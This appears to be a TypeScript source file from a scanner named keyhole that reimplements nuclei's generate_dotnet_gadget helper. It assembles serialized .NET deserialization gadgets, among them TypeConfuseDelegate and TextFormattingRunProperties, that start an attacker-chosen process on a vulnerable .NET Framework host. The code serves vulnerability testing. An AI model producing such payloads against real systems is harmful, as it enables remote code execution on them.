/**
 * `generate_dotnet_gadget(gadget, command, formatter, encoding)`: serialized .NET objects that make a
 * deserializing .NET Framework start a process, written with keyhole's own writers of the formats
 * (dotnet-nrbf.ts, dotnet-soap.ts). The command is split as nuclei splits it: `cmd`, `powershell` or
 * `pwsh` followed by its arguments is started as written, anything else as `cmd /c command`.
 *
 * Formatters: `binary`/`binaryformatter` (the default, also for ""), `los`/`losformatter`
 * (ObjectStateFormatter's form, as LosFormatter reads it) and `soap`/`soapformatter` (for the gadgets
 * of one object of string members). nuclei's other gadgets, whose layout its library alone defines,
 * and SoapFormatter's form with exceptions, are refused by name.
 */
import { argumentError } from '../errors.js';
import {
  type Command,
  claimsPrincipal,
  dataSetGadget,
  dataSetTypeSpoof,
  textFormattingRunProperties,
  typeConfuseDelegate,
  windowsIdentity,
} from './dotnet-gadgets.js';
import { NrbfError, type NrbfRecord, variableLength, writeNrbf } from './dotnet-nrbf.js';
import { writeSoap } from './dotnet-soap.js';
import { encodeGadget } from './gadget-encoding.js';
import { fixed, type HelperFunction } from './helper.js';

const NAME = 'generate_dotnet_gadget';

const GADGETS: Readonly<Record<string, (command: Command) => NrbfRecord[]>> = {
  'type-confuse-delegate': typeConfuseDelegate,
  'text-formatting-runproperties': textFormattingRunProperties,
  'windows-identity': windowsIdentity,
  'claims-principal': claimsPrincipal,
  dataset: dataSetGadget,
  'dataset-type-spoof': dataSetTypeSpoof,
};

/** nuclei's gadgets keyhole does not build, and why. */
const UNBUILT_GADGETS: Readonly<Record<string, string>> = {
  'object-data-provider': "nuclei's library alone defines the object it serializes for this gadget",
  'object-ref': "nuclei's library alone defines the remoting object reference it writes",
  'veeam-crypto-keyinfo': "nuclei's library alone defines the Veeam object it writes",
  'dataset-xmldiffgram': "nuclei's library alone defines the DiffGram it writes",
  'axhost-state-dll': "it loads an assembly given as the command, in a layout only nuclei's library defines",
  'dll-reflection': "it loads an assembly given as the command, in a layout only nuclei's library defines",
  viewstate: "nuclei's library alone defines how it signs the view state with the machine key",
};

/** nuclei's names of the formatters, by what keyhole writes. */
const FORMATTERS: Readonly<Record<string, 'binary' | 'los' | 'soap' | 'soap-exceptions'>> = {
  '': 'binary',
  binary: 'binary',
  binaryformatter: 'binary',
  los: 'los',
  losformatter: 'los',
  soap: 'soap',
  soapformatter: 'soap',
  soapwithexceptions: 'soap-exceptions',
  'soap-exceptions': 'soap-exceptions',
};

/** nuclei's split of the command into a program and its arguments. */
export function splitCommand(command: string): Command {
  if (command === '') return { program: '', arguments: '' };
  const space = command.indexOf(' ');
  const program = space < 0 ? command : command.slice(0, space);
  if (space >= 0 && (program === 'cmd' || program === 'powershell' || program === 'pwsh')) {
    return { program, arguments: command.slice(space + 1) };
  }
  return { program: 'cmd', arguments: `/c ${command}` };
}

/** ObjectStateFormatter's header (format marker 0xFF, version 1), then token 0x32: a BinaryFormatter stream. */
const OBJECT_STATE_BINARY = Buffer.of(0xff, 0x01, 0x32);

function format(gadget: string, records: NrbfRecord[], formatter: 'binary' | 'los' | 'soap'): Buffer {
  const binary = () => writeNrbf(records);
  switch (formatter) {
    case 'binary':
      return binary();
    case 'los': {
      const stream = binary();
      return Buffer.concat([OBJECT_STATE_BINARY, variableLength(stream.length), stream]);
    }
    case 'soap':
      try {
        return Buffer.from(writeSoap(records), 'utf8');
      } catch (error) {
        if (!(error instanceof NrbfError)) throw error;
        throw argumentError(
          NAME,
          `keyhole writes the "${gadget}" gadget for the binary and los formatters, not soap`,
        );
      }
  }
}

export const dotnetGadgetFunctions: readonly HelperFunction[] = [
  fixed(NAME, 4, (args) => {
    if (!args.every((arg) => typeof arg === 'string')) {
      throw argumentError(NAME, 'takes four strings: the gadget, its command, the formatter, the encoding');
    }
    const [gadget, command, formatterName, encoding] = args as [string, string, string, string];
    const unbuilt = Object.hasOwn(UNBUILT_GADGETS, gadget) ? UNBUILT_GADGETS[gadget] : undefined;
    if (unbuilt !== undefined)
      throw argumentError(NAME, `the "${gadget}" gadget is not supported: ${unbuilt}`);
    const build = Object.hasOwn(GADGETS, gadget) ? GADGETS[gadget] : undefined;
    // nuclei gives an empty text for a gadget or a formatter it does not know
    const lowered = formatterName.toLowerCase();
    const formatter = Object.hasOwn(FORMATTERS, lowered) ? FORMATTERS[lowered] : undefined;
    if (build === undefined || formatter === undefined) return '';
    if (formatter === 'soap-exceptions') {
      throw argumentError(
        NAME,
        "the soapwithexceptions formatter is not supported: nuclei's library alone defines it",
      );
    }
    return encodeGadget(format(gadget, build(splitCommand(command)), formatter), encoding);
  }),
];
